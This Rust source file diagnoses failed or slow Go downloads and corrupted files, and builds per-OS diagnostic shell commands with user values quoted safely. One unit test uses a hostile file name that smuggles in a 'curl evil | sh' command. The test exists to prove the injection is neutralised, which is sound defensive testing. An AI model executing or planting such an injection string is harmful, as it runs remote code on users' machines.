//! What is most likely wrong, from what the probes measured and what the last checked file
//! was, and the commands that confirm it on the visitor's OS.
//!
//! Pure: the browser layer hands over the figures and the last verdict, and shows the findings
//! (`#diagnosis[data-diagnosis]`) with words from `i18n` and the commands from here, filled in
//! with the host, URL and file in question, each quoted for the visitor's shell
//! (`commands::quote`): the file's name is the visitor's, and may hold anything.

use crate::commands::{quote, word, Os};
use crate::i18n::{substitute, text, Lang};
use crate::probe::Reason;
use crate::rank::{Figures, Status};
use crate::verdict::Kind;

/// Below this best throughput, in bytes per second, the network is slow (DESIGN.md).
pub const SLOW_BPS: f64 = 1_048_576.0;
/// Above this best latency, in milliseconds, the network is slow (DESIGN.md).
pub const SLOW_LATENCY_MS: f64 = 1_000.0;

/// One finding (`data-diagnosis` holds them, space-separated).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Finding {
    /// Every mirror failed or timed out: offline, a firewall or DNS.
    AllUnreachable,
    /// The official hosts fail, others work: use a mirror or the module proxy.
    OfficialUnreachable,
    /// The best throughput is under 1 MiB/s, or the best latency over 1 s.
    Slow,
    /// The last checked file did not match.
    BadFile(Kind),
    /// Nothing is wrong.
    Ok,
}

impl Finding {
    /// The contract's name.
    pub fn as_str(self) -> &'static str {
        match self {
            Finding::AllUnreachable => "all-unreachable",
            Finding::OfficialUnreachable => "official-unreachable",
            Finding::Slow => "slow",
            Finding::BadFile(_) => "bad-file",
            Finding::Ok => "ok",
        }
    }
}

/// Whether a verdict says the file is not the one it should be (rather than unchecked).
pub fn is_bad(kind: Kind) -> bool {
    !matches!(
        kind,
        Kind::Match | Kind::Unknown | Kind::Error | Kind::Cancelled
    )
}

fn failed(status: Status) -> bool {
    matches!(status, Status::Failed | Status::Timeout)
}

/// The best figures among the sources that work: what the "slow" finding is decided on, and
/// what its words quote.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct Best {
    /// The highest measured throughput, bytes per second.
    pub bps: Option<f64>,
    /// The lowest latency, milliseconds.
    pub latency_ms: Option<f64>,
}

/// The [`Best`] figures of the working sources among `figures`.
pub fn best(figures: &[Figures]) -> Best {
    let working = || figures.iter().filter(|f| f.status.works());
    Best {
        bps: working().filter_map(|f| f.throughput_bps).reduce(f64::max),
        latency_ms: working().filter_map(|f| f.latency_ms).reduce(f64::min),
    }
}

/// Whether a source lags behind or is broken for the file: not an official host, and it
/// serves the file at another size than the official one, or answers 404 for a file the
/// official list has.
pub fn is_stale(official: bool, reason: Option<&Reason>) -> bool {
    !official
        && matches!(
            reason,
            Some(Reason::WrongSize { .. } | Reason::Http { status: 404 })
        )
}

/// The findings, most serious first. Mirror findings need every probed mirror settled;
/// `last_verdict` is the newest file's final verdict, if any.
pub fn diagnose(figures: &[Figures], last_verdict: Option<Kind>) -> Vec<Finding> {
    let probed: Vec<&Figures> = figures
        .iter()
        .filter(|f| f.status != Status::Gone)
        .collect();
    let settled = probed.iter().all(|f| f.status != Status::Pending);
    let mut findings = Vec::new();
    if settled && !probed.is_empty() {
        let working: Vec<&&Figures> = probed.iter().filter(|f| f.status.works()).collect();
        let official: Vec<&&Figures> = probed.iter().filter(|f| f.official).collect();
        if working.is_empty() {
            findings.push(Finding::AllUnreachable);
        } else {
            if !official.is_empty() && official.iter().all(|f| failed(f.status)) {
                findings.push(Finding::OfficialUnreachable);
            }
            let best = best(figures);
            // A floor says only "at least this fast" (a file that ended before a steady figure,
            // on a busy machine sooner under the line): it never shows a source slow.
            let floor_under = figures.iter().any(|f| {
                f.status.works()
                    && f.throughput_floor
                    && f.throughput_bps.is_some_and(|b| b < SLOW_BPS)
            });
            if (best.bps.is_some_and(|b| b < SLOW_BPS) && !floor_under)
                || best.latency_ms.is_some_and(|l| l > SLOW_LATENCY_MS)
            {
                findings.push(Finding::Slow);
            }
        }
    }
    if let Some(kind) = last_verdict.filter(|k| is_bad(*k)) {
        findings.push(Finding::BadFile(kind));
    }
    if findings.is_empty() && ((settled && !probed.is_empty()) || last_verdict.is_some()) {
        findings.push(Finding::Ok);
    }
    findings
}

/// What the commands are about.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Subject {
    /// The host in question, e.g. `dl.google.com`.
    pub host: String,
    /// The file's URL.
    pub url: String,
    /// The file's name as saved.
    pub file: String,
    /// The checksum the file should have, lowercase hex; empty when none is known.
    pub sha256: String,
}

/// The host of an http(s) URL.
pub fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit('@').next().unwrap_or(authority);
    match host.find(']') {
        // An IPv6 literal keeps its brackets and loses its port.
        Some(end) => &host[..=end],
        None => host.split(':').next().unwrap_or(host),
    }
}

/// Network checks, for a host that fails or is slow: name resolution, route, TCP and TLS,
/// and where the time goes. `{root}` is the host's `https://…/`.
fn network(os: Os) -> &'static str {
    match os {
        Os::Linux | Os::Darwin => {
            "nslookup {host}    # {or}: dig +short {host}\n\
         curl -sv -o /dev/null {root} 2>&1 | head -n 30\n\
         curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' {root}\n\
         traceroute {host}    # {or}: mtr -rw {host}\n\
         openssl s_client -connect {host}:443 -servername {host} </dev/null | head -n 20"
        }
        Os::Windows => {
            "nslookup {host}\n\
         Test-NetConnection {host} -Port 443\n\
         curl.exe -sv -o NUL {root}\n\
         curl.exe -s -o NUL -w \"dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s`n\" {root}\n\
         tracert {host}"
        }
    }
}

/// Download speed of the file itself.
fn speed(os: Os) -> &'static str {
    match os {
        Os::Linux => {
            "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}\n\
             wget -O /dev/null {url}"
        }
        Os::Darwin => {
            "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}"
        }
        Os::Windows => {
            "curl.exe -o NUL -w \"speed %{speed_download} bytes/s, total %{time_total}s`n\" {url}"
        }
    }
}

/// A file that is not what it should be: its hash, size and first bytes; what the server sends
/// (redirects, type, size, transport compression); a clean download, resumed (`{resume}`) only
/// where the file was cut short, since anything else would keep the bad bytes; then, where the
/// checksum is known, [`is_official`]. `{sum}` is the OS's SHA-256 command.
fn bad_file(os: Os) -> &'static str {
    match os {
        Os::Linux | Os::Darwin => {
            "{sum} {file}\n\
         ls -l {file}\n\
         file {file}; head -c 300 {file} | strings | head\n\
         # {headers}\n\
         curl -sIL -H 'Accept-Encoding: gzip' {url} | grep -iE '^(HTTP|location|content-(type|length|encoding))'\n\
         # {again}\n\
         curl -fL {resume}-o {file} {url}"
        }
        Os::Windows => {
            "Get-FileHash -LiteralPath {file} -Algorithm SHA256\n\
         (Get-Item -LiteralPath {file}).Length\n\
         Get-Content -LiteralPath {file} -TotalCount 5\n\
         # {headers}\n\
         curl.exe -sIL -H 'Accept-Encoding: gzip' {url} | Select-String '^(HTTP|location|content-(type|length|encoding))'\n\
         # {again}\n\
         curl.exe -fL {resume}-o {file} {url}"
        }
    }
}

/// After a new download: whether it is the official file.
fn is_official(os: Os) -> &'static str {
    match os {
        Os::Linux | Os::Darwin => "printf '%s\\n' {check} | {sum} -c -",
        Os::Windows => "(Get-FileHash -LiteralPath {file} -Algorithm SHA256).Hash -eq {sha256}",
    }
}

/// A mirror that serves another file than the official host: both answers side by side.
fn stale(os: Os) -> &'static str {
    match os {
        Os::Linux | Os::Darwin => {
            "# {mirror-says}\n\
         curl -sIL {url} | grep -iE '^(HTTP|content-length)'\n\
         # {official-says}\n\
         curl -sIL {official} | grep -iE '^(HTTP|content-length)'"
        }
        Os::Windows => {
            "# {mirror-says}\n\
         curl.exe -sIL {url} | Select-String '^(HTTP|content-length)'\n\
         # {official-says}\n\
         curl.exe -sIL {official} | Select-String '^(HTTP|content-length)'"
        }
    }
}

/// The commands that confirm `finding` on `os`, with comments in `lang`; every value quoted
/// for that OS's shell. `None` for [`Finding::Ok`].
pub fn commands(lang: Lang, finding: Finding, os: Os, subject: &Subject) -> Option<String> {
    let Subject {
        host,
        url,
        file,
        sha256,
    } = subject;
    let table = match finding {
        Finding::AllUnreachable | Finding::OfficialUnreachable => network,
        Finding::Slow => speed,
        Finding::BadFile(_) => bad_file,
        Finding::Ok => return None,
    };
    let mut template = table(os).to_string();
    if matches!(finding, Finding::BadFile(_)) && !sha256.is_empty() {
        template.push('\n');
        template.push_str(is_official(os));
    }
    let resume = finding == Finding::BadFile(Kind::Truncated);
    // A name that starts with `-` would be read as an option.
    let file = &if file.starts_with('-') {
        format!("./{file}")
    } else {
        file.clone()
    };
    let root = quote(os, &format!("https://{host}/"));
    let check = quote(os, &format!("{sha256}  {file}"));
    let (host, url, file, sha256) = (
        word(os, host),
        quote(os, url),
        quote(os, file),
        quote(os, sha256),
    );
    Some(substitute(
        &template,
        &[
            ("host", &host),
            ("root", &root),
            ("url", &url),
            ("file", &file),
            ("sha256", &sha256),
            ("check", &check),
            ("sum", os.sha256sum()),
            ("resume", if resume { "-C - " } else { "" }),
            ("or", text(lang, "cmd-or")),
            ("headers", text(lang, "cmd-headers")),
            (
                "again",
                text(lang, if resume { "cmd-resume" } else { "cmd-again" }),
            ),
        ],
    ))
}

/// The commands that show a stale mirror's answer for `url` beside the official `official`.
pub fn stale_commands(lang: Lang, os: Os, url: &str, official: &str) -> String {
    let (url, official) = (quote(os, url), quote(os, official));
    substitute(
        stale(os),
        &[
            ("url", &url),
            ("official", &official),
            ("mirror-says", text(lang, "cmd-mirror-says")),
            ("official-says", text(lang, "cmd-official-says")),
        ],
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stale_sources() {
        let size = Reason::WrongSize {
            served_bytes: 1,
            official_bytes: 2,
        };
        // Each row: official?, the reason, stale?
        for (official, reason, stale) in [
            (false, Some(&size), true),
            (false, Some(&Reason::Http { status: 404 }), true),
            (true, Some(&Reason::Http { status: 404 }), false),
            (false, Some(&Reason::Http { status: 503 }), false),
            (false, Some(&Reason::Stalled), false),
            (false, None, false),
        ] {
            assert_eq!(is_stale(official, reason), stale, "{official} {reason:?}");
        }
    }

    #[test]
    fn the_best_figures_are_of_working_sources_only() {
        use Status::*;
        let figures = [
            fig("a", false, Ok, Some(80.0), Some(2e6)),
            fig("b", true, Limited, Some(20.0), None),
            fig("c", false, Ok, Some(50.0), Some(3e6)),
            // A failed source's quick refusal is no one's best latency.
            fig("d", false, Failed, Some(1.0), None),
            fig("e", false, Pending, Some(2.0), Some(9e6)),
        ];
        let best = best(&figures);
        assert_eq!((best.bps, best.latency_ms), (Some(3e6), Some(20.0)));
        assert_eq!(super::best(&[]), Best::default());
    }

    fn fig(id: &str, official: bool, status: Status, ms: Option<f64>, bps: Option<f64>) -> Figures {
        Figures {
            id: id.into(),
            name: id.into(),
            official,
            status,
            latency_ms: ms,
            throughput_bps: bps,
            throughput_floor: false,
        }
    }

    const FAST: f64 = 5e6;

    fn names(findings: &[Finding]) -> Vec<&'static str> {
        findings.iter().map(|f| f.as_str()).collect()
    }

    #[test]
    fn everything_failing_is_all_unreachable() {
        let t = [
            fig("go", true, Status::Failed, None, None),
            fig("cn", false, Status::Timeout, None, None),
            fig("old", false, Status::Gone, None, None),
        ];
        assert_eq!(names(&diagnose(&t, None)), ["all-unreachable"]);
    }

    #[test]
    fn only_the_official_hosts_failing() {
        let t = [
            fig("go", true, Status::Timeout, None, None),
            fig("google", true, Status::Failed, None, None),
            fig("cn", false, Status::Ok, Some(20.0), Some(FAST)),
        ];
        assert_eq!(names(&diagnose(&t, None)), ["official-unreachable"]);
        // One official host working is not "official unreachable".
        let t = [
            fig("go", true, Status::Timeout, None, None),
            fig("google", true, Status::Limited, Some(30.0), None),
            fig("cn", false, Status::Ok, Some(20.0), Some(FAST)),
        ];
        assert_eq!(names(&diagnose(&t, None)), ["ok"]);
    }

    #[test]
    fn slow_by_throughput_or_latency() {
        let slow = [fig(
            "cn",
            false,
            Status::Ok,
            Some(20.0),
            Some(SLOW_BPS - 1.0),
        )];
        assert_eq!(names(&diagnose(&slow, None)), ["slow"]);
        let far = [fig("go", true, Status::Limited, Some(1_200.0), None)];
        assert_eq!(names(&diagnose(&far, None)), ["slow"]);
        let one_fast = [
            fig("a", false, Status::Ok, Some(1_500.0), Some(100.0)),
            fig("b", false, Status::Ok, Some(40.0), Some(FAST)),
        ];
        assert_eq!(names(&diagnose(&one_fast, None)), ["ok"]);
        // A small file that ended before a steady second gives a floor: under the line, it
        // still does not make the source slow; a real rate beside it under the line does not
        // either, since the floor's source may be the fast one.
        let floor = Figures {
            throughput_floor: true,
            ..fig("a", false, Status::Ok, Some(20.0), Some(998_704.0))
        };
        assert_eq!(names(&diagnose(std::slice::from_ref(&floor), None)), ["ok"]);
        let beside = [
            floor,
            fig("b", false, Status::Ok, Some(20.0), Some(SLOW_BPS / 2.0)),
        ];
        assert_eq!(names(&diagnose(&beside, None)), ["ok"]);
        let not_a_floor = [fig("a", false, Status::Ok, Some(20.0), Some(998_704.0))];
        assert_eq!(names(&diagnose(&not_a_floor, None)), ["slow"]);
    }

    #[test]
    fn a_bad_file_joins_the_network_findings() {
        let t = [
            fig("go", true, Status::Failed, None, None),
            fig("cn", false, Status::Ok, Some(20.0), Some(SLOW_BPS / 2.0)),
        ];
        let got = diagnose(&t, Some(Kind::Truncated));
        assert_eq!(names(&got), ["official-unreachable", "slow", "bad-file"]);
        assert_eq!(got[2], Finding::BadFile(Kind::Truncated));
        for kind in Kind::ALL {
            let bad = diagnose(&[], Some(kind));
            let want = if is_bad(kind) { "bad-file" } else { "ok" };
            assert_eq!(names(&bad), [want], "{kind:?}");
        }
    }

    #[test]
    fn nothing_is_said_while_measuring() {
        let t = [
            fig("go", true, Status::Pending, None, None),
            fig("cn", false, Status::Failed, None, None),
        ];
        assert!(diagnose(&t, None).is_empty());
        assert_eq!(names(&diagnose(&t, Some(Kind::Html))), ["bad-file"]);
        assert!(diagnose(&[], None).is_empty());
    }

    #[test]
    fn hosts() {
        for (url, host) in [
            ("https://dl.google.com/go/x.tar.gz", "dl.google.com"),
            ("http://127.0.0.1:8080/golang/x", "127.0.0.1"),
            ("https://user@mirror.example:443/", "mirror.example"),
            ("https://[::1]:8443/x", "[::1]"),
            ("https://go.dev", "go.dev"),
        ] {
            assert_eq!(host_of(url), host, "{url}");
        }
    }

    fn subject() -> Subject {
        Subject {
            host: "dl.google.com".into(),
            url: "https://dl.google.com/go/go1.22.0.linux-amd64.tar.gz".into(),
            file: "go1.22.0.linux-amd64.tar.gz".into(),
            sha256: "f6c8a87aa03b92c4b0bf3d558e28ea03006eb29db78917daec5cfb6ec1046265".into(),
        }
    }

    fn run(finding: Finding, os: Os, subject: &Subject) -> String {
        commands(Lang::En, finding, os, subject).unwrap()
    }

    #[test]
    fn network_and_speed_commands_per_os() {
        let subject = subject();
        let net = run(Finding::AllUnreachable, Os::Linux, &subject);
        assert!(net.starts_with("nslookup dl.google.com    # or: dig +short dl.google.com\n"));
        assert!(net.contains("curl -sv -o /dev/null 'https://dl.google.com/' 2>&1"));
        assert!(net.contains("%{time_connect}"));
        assert!(net.contains("openssl s_client -connect dl.google.com:443"));
        let win = run(Finding::OfficialUnreachable, Os::Windows, &subject);
        assert!(win.contains("tracert dl.google.com"));
        assert!(win.contains("Test-NetConnection dl.google.com -Port 443"));
        assert!(win.contains("curl.exe -sv -o NUL 'https://dl.google.com/'"));
        let zh = commands(Lang::Zh, Finding::AllUnreachable, Os::Linux, &subject).unwrap();
        assert!(
            zh.starts_with("nslookup dl.google.com    # 或: dig"),
            "{zh}"
        );
        let speed = run(Finding::Slow, Os::Linux, &subject);
        assert!(speed.contains(&format!("'{}'", subject.url)));
        for finding in [
            Finding::AllUnreachable,
            Finding::Slow,
            Finding::BadFile(Kind::Html),
        ] {
            for os in Os::ALL {
                let c = run(finding, os, &subject);
                for hole in [
                    "{host}", "{root}", "{url}", "{file}", "{sha256}", "{check}", "{or}",
                ] {
                    assert!(!c.contains(hole), "{c}");
                }
            }
        }
        assert_eq!(commands(Lang::En, Finding::Ok, Os::Linux, &subject), None);
        assert_eq!(Os::from_goos("plan9"), None);
    }

    #[test]
    fn only_a_cut_file_is_resumed() {
        let subject = subject();
        let (file, url) = (&subject.file, &subject.url);
        let cut = run(Finding::BadFile(Kind::Truncated), Os::Linux, &subject);
        assert!(
            cut.contains(&format!("curl -fL -C - -o '{file}' '{url}'")),
            "{cut}"
        );
        for kind in [
            Kind::Html,
            Kind::Decompressed,
            Kind::DoubleGzip,
            Kind::Oversized,
            Kind::Mismatch,
            Kind::WrongFile,
        ] {
            for os in Os::ALL {
                let c = run(Finding::BadFile(kind), os, &subject);
                assert!(!c.contains("-C -"), "{kind:?} {os:?}: {c}");
                assert!(c.contains(&format!("-fL -o '{file}' '{url}'")), "{c}");
                // What the server sends, transport compression included.
                assert!(c.contains("-sIL -H 'Accept-Encoding: gzip'"), "{c}");
            }
        }
    }

    #[test]
    fn a_new_download_is_checked_when_the_checksum_is_known() {
        let mut subject = subject();
        let (sha, file) = (subject.sha256.clone(), subject.file.clone());
        let linux = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
        assert!(linux.ends_with(&format!(
            "\nprintf '%s\\n' '{sha}  {file}' | sha256sum -c -"
        )));
        assert!(linux.starts_with(&format!("sha256sum '{file}'\n")));
        let mac = run(Finding::BadFile(Kind::Mismatch), Os::Darwin, &subject);
        assert!(mac.starts_with(&format!("shasum -a 256 '{file}'")));
        assert!(mac.ends_with("| shasum -a 256 -c -"));
        let win = run(Finding::BadFile(Kind::Html), Os::Windows, &subject);
        assert!(win.starts_with(&format!(
            "Get-FileHash -LiteralPath '{file}' -Algorithm SHA256\n"
        )));
        assert!(win.ends_with(&format!(
            "(Get-FileHash -LiteralPath '{file}' -Algorithm SHA256).Hash -eq '{sha}'"
        )));
        subject.sha256.clear();
        let unknown = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
        assert!(!unknown.contains("sha256sum -c"), "{unknown}");
        assert!(unknown.ends_with(&format!("-o '{file}' '{}'", subject.url)));
    }

    #[test]
    fn a_hostile_file_name_stays_one_quoted_word() {
        let mut subject = subject();
        subject.file = "go'; curl evil | sh; '.tar.gz".into();
        let linux = run(Finding::BadFile(Kind::Html), Os::Linux, &subject);
        assert!(linux.starts_with("sha256sum 'go'\\''; curl evil | sh; '\\''.tar.gz'\n"));
        let win = run(Finding::BadFile(Kind::Html), Os::Windows, &subject);
        assert!(win
            .starts_with("Get-FileHash -LiteralPath 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
        // Nor is a name read as an option.
        subject.file = "--help.tar.gz".into();
        let linux = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
        assert!(
            linux.starts_with("sha256sum './--help.tar.gz'\n"),
            "{linux}"
        );
        assert!(linux.contains("-o './--help.tar.gz' "), "{linux}");
    }

    #[test]
    fn stale_mirror_against_the_official_host() {
        let mirror = "https://mirror.example/golang/go1.22.0.linux-amd64.tar.gz";
        let official = "https://dl.google.com/go/go1.22.0.linux-amd64.tar.gz";
        let linux = stale_commands(Lang::En, Os::Linux, mirror, official);
        assert!(linux.contains(&format!("curl -sIL '{mirror}' | grep -iE")));
        assert!(linux.contains(&format!("curl -sIL '{official}' | grep -iE")));
        let win = stale_commands(Lang::Zh, Os::Windows, mirror, official);
        assert!(win.contains(&format!("curl.exe -sIL '{mirror}' | Select-String")));
        assert!(!win.contains('{'), "{win}");
        assert_eq!(Os::from_goos("plan9"), None);
    }
}
